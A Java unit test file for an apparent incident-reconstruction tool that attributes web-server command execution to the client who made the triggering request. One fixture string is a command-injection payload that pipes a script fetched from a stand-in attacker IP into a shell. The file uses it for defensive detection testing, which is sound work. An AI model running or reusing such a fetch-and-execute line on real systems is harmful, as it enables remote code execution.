package dwell.incident;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class ServerCommandsTest {
  private static final String ATTACKER = "203.0.113.7";
  private static final String FETCHED = "sh -c ping -c 1 x; curl -s http://203.0.113.9/a | sh";

  private static Story asked() {
    Story story = ReconstructionTest.office();
    story.request("app1", "198.18.1.1", "5 11:50:00", "GET", "/index.php?page=2", 200);
    story.request("app1", ATTACKER, "5 12:00:00", "POST", "/index.php", 200);
    return story;
  }

  @Test
  void whatTheServerRanForTheOneWhoAsked() {
    Story story = asked();
    story.runs("app1", "5 12:00:01", "www-data", FETCHED);
    Incident incident = story.incident();
    assertThat(incident.verdict()).isEqualTo(Verdict.COMPROMISE);
    assertThat(incident.actors().getFirst().addresses())
        .extracting(a -> a.ip() + ' ' + a.confidence())
        .containsExactly(ATTACKER + " LIKELY");
    assertThat(incident.sessions()).hasSize(1);
    assertThat(incident.sessions().getFirst().commands()).hasSize(1);
  }

  @Test
  void whereTwoAskedNobodyIsAccused() {
    Story story = asked();
    story.request("app1", "198.18.1.1", "5 12:00:02", "GET", "/index.php?page=3", 200);
    story.runs("app1", "5 12:00:01", "www-data", FETCHED);
    ReconstructionTest.nothing(story.incident());
  }

  @Test
  void whatSitesRunIsNothing() {
    Story story = asked();
    story.runs("app1", "5 12:00:01", "www-data", "sh -c /usr/bin/convert in.png out.jpg");
    story.runs("app1", "5 12:00:02", "www-data", "/usr/bin/curl -s http://10.1.0.30/rates.json");
    story.runs("app1", "5 12:00:02", "erin", FETCHED);
    story.runs("data1", "5 12:00:02", "www-data", FETCHED);
    story.runs("app1", "5 12:30:00", "www-data", FETCHED);
    ReconstructionTest.nothing(story.incident());
  }
}
